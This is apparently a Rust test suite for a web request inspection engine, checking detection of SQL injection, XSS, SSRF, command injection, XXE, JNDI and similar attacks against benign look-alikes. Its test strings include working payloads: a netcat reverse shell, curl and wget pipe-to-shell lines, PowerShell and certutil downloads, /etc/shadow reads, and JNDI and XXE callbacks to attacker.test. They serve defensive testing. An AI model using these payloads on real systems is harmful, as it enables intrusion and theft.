use super::*;
use std::collections::BTreeMap;

fn run(method: &str, path: &str, headers: &[(&str, &str)], body: &str) -> Vec<Hit> {
    let h: Vec<(String, String)> = headers
        .iter()
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect();
    let req = Request {
        method,
        path,
        headers: &h,
        body: body.as_bytes(),
    };
    let mut hits = Vec::new();
    inspect(&req, &Scope::defaults(), &mut hits);
    hits
}

fn attacks(path: &str) -> Vec<Attack> {
    run("GET", path, &[], "").iter().map(|h| h.attack).collect()
}

fn q(value: &str) -> Vec<Attack> {
    let enc: String = value
        .bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect();
    attacks(&format!("/api/x?v={enc}"))
}

#[test]
fn sql_boundaries() {
    assert!(q("O'Brien").is_empty());
    assert!(q("' or 1=1--").contains(&Attack::SqlInjection));
    assert!(q("Please select a file from the list, then union them").is_empty());
    assert!(q("1 union select null,null--").contains(&Attack::SqlInjection));
    assert!(q("it's a dog's life; don't drop it").is_empty());
    assert!(q("admin'--").contains(&Attack::SqlInjection));
    assert!(q("1; drop table users").contains(&Attack::SqlInjection));
    assert!(q("sleep(5)").contains(&Attack::SqlInjection));
    assert!(q("I need more sleep (at least 8 hours)").is_empty());
    assert!(q("sel/**/ect").is_empty());
    assert!(
        q("1 un/**/ion sel/**/ect 1").is_empty(),
        "comments split words, as MySQL does"
    );
    assert!(q("1/**/union/**/select/**/1,2").contains(&Attack::SqlInjection));
}

#[test]
fn xss_boundaries() {
    assert!(q("<b>bold</b> and <a href=\"https://example.com\">a link</a>").is_empty());
    assert!(q("<img src=\"/a.png\" alt=\"x\">").is_empty());
    assert!(q("<img src=x onerror=alert(1)>").contains(&Attack::Xss));
    assert!(q("<script>alert(1)</script>").contains(&Attack::Xss));
    assert!(q("ja&#x09;vascript:alert(1)").contains(&Attack::Xss));
    assert!(q("&lt;script&gt;").contains(&Attack::Xss));
    assert!(q("Online shopping is done").is_empty());
    assert!(q("x\" onmouseover=\"alert(1)").contains(&Attack::Xss));
}

#[test]
fn ssrf_boundaries() {
    assert!(q("http://example.com/a.png").is_empty());
    assert!(q("http://169.254.169.254/latest/meta-data/").contains(&Attack::Ssrf));
    assert!(q("http://[::1]:8080/").contains(&Attack::Ssrf));
    assert!(q("http://0x7f000001/").contains(&Attack::Ssrf));
    assert!(q("http://2130706433/").contains(&Attack::Ssrf));
    assert!(q("http://user@127.1/").contains(&Attack::Ssrf));
    assert!(q("gopher://example.com:70/_x").contains(&Attack::Ssrf));
    assert!(q("http://metadata.google.internal/computeMetadata/v1/").contains(&Attack::Ssrf));
    assert!(q("https://10.example.com/").is_empty());
}

#[test]
fn files_shell_nosql() {
    assert!(q("../../etc/passwd").contains(&Attack::FileInclusion));
    assert!(q("Loading... please wait").is_empty());
    assert!(q("..%c0%af..%c0%afetc").contains(&Attack::FileInclusion));
    assert!(q("report.pdf").is_empty());
    assert!(q("; cat /etc/passwd").contains(&Attack::OsCommandInjection));
    assert!(q("I like cats; find them cute").is_empty());
    assert!(q("$(whoami)").contains(&Attack::OsCommandInjection));
    assert!(q("perl").is_empty());
    assert!(q("& cmd /c dir").contains(&Attack::WindowsCommandInjection));
    assert!(q("powershell -enc AAAA").contains(&Attack::WindowsCommandInjection));
    assert!(attacks("/api/users?name[$ne]=x").contains(&Attack::NoSqlInjection));
    assert!(q("costs $10 or more").is_empty());
    let json = run(
        "POST",
        "/api",
        &[("content-type", "application/json")],
        r#"{"user":{"$gt":""}}"#,
    );
    assert!(json
        .iter()
        .any(|h| h.attack == Attack::NoSqlInjection && h.part == Part::Body));
}

#[test]
fn credential_headers_are_never_inspected() {
    let hits = run(
        "GET",
        "/",
        &[
            ("authorization", "Bearer ' or 1=1--"),
            ("x-api-key", "<script>"),
        ],
        "",
    );
    assert!(hits.is_empty(), "{hits:?}");
    let hits = run("GET", "/", &[("x-custom", "' or 1=1--")], "");
    assert_eq!(hits[0].name, "x-custom");
}

#[test]
fn cookies_only_when_scoped() {
    let h = [("cookie".to_string(), "q=' or 1=1--".to_string())];
    let req = Request {
        method: "GET",
        path: "/",
        headers: &h,
        body: b"",
    };
    let mut hits = Vec::new();
    inspect(
        &req,
        &Scope::none().with(Attack::SqlInjection, Part::Query),
        &mut hits,
    );
    assert!(hits.is_empty());
    inspect(
        &req,
        &Scope::none().with(Attack::SqlInjection, Part::Cookies),
        &mut hits,
    );
    assert_eq!(hits.len(), 1);
    assert_eq!((hits[0].part, hits[0].name.as_str()), (Part::Cookies, "q"));
}

#[test]
fn one_hit_per_class_and_excerpt_bounded() {
    let long = format!("{}' or 1=1-- {}", "a".repeat(500), "é".repeat(300));
    let hits = run(
        "POST",
        "/?a=' or 1=1--",
        &[("content-type", "text/plain")],
        &long,
    );
    assert_eq!(
        hits.iter()
            .filter(|h| h.attack == Attack::SqlInjection)
            .count(),
        1
    );
    for h in &hits {
        assert!(h.excerpt.len() <= 120);
    }
}

#[test]
fn binary_bodies_are_skipped() {
    let hits = run(
        "POST",
        "/upload",
        &[("content-type", "image/png")],
        "\u{89}PNG ' or 1=1-- <script>",
    );
    assert!(hits.is_empty(), "{hits:?}");
    let hits = run(
        "POST",
        "/upload",
        &[("content-type", "text/plain")],
        "' or 1=1--",
    );
    assert!(!hits.is_empty());
}

#[test]
fn truncated_and_invalid_bodies() {
    let body = b"{\"a\": \"<script>alert(1)</scr\xc3";
    let h: BTreeMap<String, String> = BTreeMap::new();
    let req = Request {
        method: "POST",
        path: "/",
        headers: &h,
        body,
    };
    let mut hits = Vec::new();
    inspect(&req, &Scope::defaults(), &mut hits);
    assert!(hits.iter().any(|h| h.attack == Attack::Xss));
}

/// Work is linear: pathological 64 KiB inputs cost at most K bytes examined per input byte.
#[test]
fn work_is_linear() {
    const K: u64 = 400;
    let n = 64 * 1024;
    let unit = |u: &str| u.repeat(n / u.len());
    let cases = [
        unit("("),
        unit("'"),
        unit("\""),
        unit("<"),
        unit("%25"),
        unit("/**/"),
        unit("../"),
        unit("["),
        unit("{\"a\":"),
        unit("select "),
        unit("union select "),
        unit("or 1=1 "),
        unit("&#x"),
        unit("&amp;"),
        unit("\\u00"),
        unit("$("),
        unit(";ls"),
        unit("http://"),
        unit("on"),
        unit(" onx="),
        unit("$ne"),
        unit("for %a in (x) do "),
        unit("if exist "),
        unit("0x2e"),
        unit("a"),
        unit("-- \n"),
        unit("/*"),
        unit("{,"),
        unit("\\"),
        unit("http:"),
        unit("bin/"),
        unit("`a"),
        unit("${a"),
        unit("< a "),
        unit(" oa"),
        unit("a:"),
        unit("--"),
        unit("<![CDATA["),
        unit("<a b=\""),
        unit("{{"),
        unit("{{a}}"),
        unit("${${"),
        unit("${a:-"),
        unit("<!doctype ["),
        unit("<!DOCTYPE a>"),
        unit("<a:include "),
        unit("<#"),
        unit("#set("),
        unit("//"),
        unit("/a"),
        unit("/actuator"),
        unit("/.git"),
    ];
    let mut worst = 0;
    for body in &cases {
        for ct in [
            "application/json",
            "application/x-www-form-urlencoded",
            "application/xml",
            "text/plain",
        ] {
            let path = format!("/p?v={}", &body[..body.len().min(8 * 1024)]);
            let h = vec![
                ("content-type".to_string(), ct.to_string()),
                ("x-h".to_string(), body[..4096].to_string()),
            ];
            let req = Request {
                method: "POST",
                path: &path,
                headers: &h,
                body: body.as_bytes(),
            };
            let mut hits = Vec::new();
            let mut m = Meter::default();
            // Scan everything, even after hits, by using one class at a time.
            for a in Attack::ALL {
                let mut scope = Scope::none();
                for p in Part::ALL {
                    scope = scope.with(a, p);
                }
                inspect_metered(&req, &scope, &Settings::default(), &mut hits, &mut m);
            }
            let size = (path.len() + body.len() + 4096) as u64;
            worst = worst.max(m.bytes / size);
            assert!(
                m.bytes <= K * size,
                "{:?}.. ({ct}): {} > {K} x {size}",
                &body[..8],
                m.bytes
            );
        }
    }
    eprintln!("worst work: {worst} bytes examined per input byte (bound {K})");
}

#[cfg(not(target_arch = "wasm32"))]
mod prop {
    use super::*;
    use proptest::prelude::*;

    proptest! {
        #[test]
        fn never_panics(path in "\\PC{0,80}", body in proptest::collection::vec(any::<u8>(), 0..400),
                        hv in "\\PC{0,60}", ct in prop_oneof![Just(""), Just("application/json"), Just("application/xml"), Just("application/x-www-form-urlencoded"), Just("text/plain")]) {
            let h = vec![("content-type".to_string(), ct.to_string()), ("x-test".to_string(), hv.clone()), ("cookie".to_string(), hv)];
            let req = Request { method: "POST", path: &path, headers: &h, body: &body };
            let mut hits = Vec::new();
            let scope = Attack::ALL.iter().fold(Scope::none(), |s, a| Part::ALL.iter().fold(s, |s, p| s.with(*a, *p)));
            inspect(&req, &scope, &mut hits);
            for h in &hits {
                prop_assert!(h.excerpt.len() <= 120);
            }
        }

        #[test]
        fn never_panics_on_attack_alphabet(s in "[%'\"<>()/\\\\.;|&`$\\[\\]{}=:a-fx0-9 !#*@?+-]{0,200}") {
            let path = format!("/{s}?a={s}");
            let h = vec![("cookie".to_string(), s.clone())];
            let req = Request { method: "POST", path: &path, headers: &h, body: s.as_bytes() };
            let mut hits = Vec::new();
            let scope = Attack::ALL.iter().fold(Scope::none(), |s, a| Part::ALL.iter().fold(s, |s, p| s.with(*a, *p)));
            inspect(&req, &scope, &mut hits);
        }
    }
}

/// Attacks written for this test, not taken from CRS: the rules should generalize.
#[test]
fn variants_beyond_the_corpus() {
    use Attack::*;
    let cases: &[(&str, Attack)] = &[
        ("1' AND SLEEP(5)#", SqlInjection),
        ("x\" or \"a\"=\"a", SqlInjection),
        (
            "1 AND 1=2 UNION ALL SELECT username, password FROM users--",
            SqlInjection,
        ),
        ("'; EXEC xp_cmdshell 'dir'--", SqlInjection),
        ("1)) OR 2>1--", SqlInjection),
        ("\"><svg onload=alert(1)>", Xss),
        ("<iframe src=\"javascript:alert(1)\">", Xss),
        ("<a href=\"jav&#x0A;ascript:alert(1)\">x</a>", Xss),
        ("%253Cscript%253Ealert(1)%253C%252Fscript%253E", Xss),
        ("<details open ontoggle=confirm(1)>", Xss),
        (";nc -e /bin/sh 10.0.0.1 4444", OsCommandInjection),
        ("a|wget http://x.example/s.sh -O- |sh", OsCommandInjection),
        ("$(curl x.example|bash)", OsCommandInjection),
        ("1;${IFS}cat${IFS}/etc/shadow", OsCommandInjection),
        (
            "| powershell -c iex(new-object net.webclient).downloadstring('http://x')",
            WindowsCommandInjection,
        ),
        (
            "& certutil -urlcache -split -f http://x.example/a.exe a.exe",
            WindowsCommandInjection,
        ),
        ("..%252f..%252f..%252fetc%252fpasswd", FileInclusion),
        ("....//....//windows/win.ini", FileInclusion),
        ("/proc/self/environ", FileInclusion),
        ("http://[::ffff:169.254.169.254]/latest/", Ssrf),
        ("http://0251.0376.0251.0376/", Ssrf),
        ("dict://127.0.0.1:6379/info", Ssrf),
    ];
    let mut missed = Vec::new();
    for (payload, attack) in cases {
        if !q(payload).contains(attack) {
            missed.push(format!("{attack:?}: {payload}"));
        }
    }
    let json = run(
        "POST",
        "/login",
        &[("content-type", "application/json")],
        r#"{"username":{"$regex":".*"},"password":{"$ne":null}}"#,
    );
    if !json.iter().any(|h| h.attack == NoSqlInjection) {
        missed.push("NoSql: $regex in JSON".into());
    }
    assert!(missed.is_empty(), "missed:\n{}", missed.join("\n"));
}

#[test]
fn keywords_fit_the_tokenizer_shortcut() {
    // `sql_lex::word_kind` skips lookups for words longer than 9 bytes.
    for t in super::sql::tables().iter().take(3) {
        assert!(t.iter().all(|w| w.len() <= 9), "{t:?}");
    }
}

/// The requests the host tests send for the newer classes each raise their own class alone
/// (other rules must not claim them: one event per attack in `tests/tests/threats.rs`).
#[test]
fn newer_classes_alone_on_the_host_tests_requests() {
    let run = |path: &str, headers: Vec<(&str, &str)>, body: &[u8]| {
        let mut h = vec![("host", "127.0.0.1:10000")];
        h.extend(headers);
        let req = Request {
            method: if body.is_empty() { "GET" } else { "POST" },
            path,
            headers: &h,
            body,
        };
        let mut hits = Vec::new();
        inspect(&req, &Scope::defaults(), &mut hits);
        let mut found: Vec<Attack> = hits.iter().map(|h| h.attack).collect();
        found.sort();
        found
    };
    use Attack::*;
    assert_eq!(
        run(
            "/api/orders?name=%7B%7Bconfig.__class__.__init__.__globals__%7D%7D",
            vec![],
            b""
        ),
        [TemplateInjection]
    );
    assert_eq!(
        run(
            "/api/comments",
            vec![("content-type", "application/xml")],
            br#"<?xml version="1.0"?><!DOCTYPE c SYSTEM "http://attacker.test/x.dtd"><c>1</c>"#
        ),
        [Xxe]
    );
    // An entity declaration is XSS too, as CRS 941130 has it: both rules raise.
    assert_eq!(
        run(
            "/api/comments",
            vec![("content-type", "application/xml")],
            br#"<!DOCTYPE c [<!ENTITY x SYSTEM "http://attacker.test/x.dtd">]><c>&x;</c>"#
        ),
        [Xss, Xxe]
    );
    assert_eq!(
        run(
            "/api/orders",
            vec![("user-agent", "${${lower:j}ndi:ldap://attacker.test/a}")],
            b""
        ),
        [JndiInjection]
    );
    assert_eq!(
        run("/api/orders?next=%2F%5Cattacker.test%2F", vec![], b""),
        [OpenRedirect]
    );
    assert_eq!(run("/api/actuator/env", vec![], b""), [SensitivePathProbe]);
    // A restricted file in the path is file inclusion too (CRS 930130 files it there).
    assert_eq!(
        run("/api/.git/config", vec![], b""),
        [FileInclusion, SensitivePathProbe]
    );
}
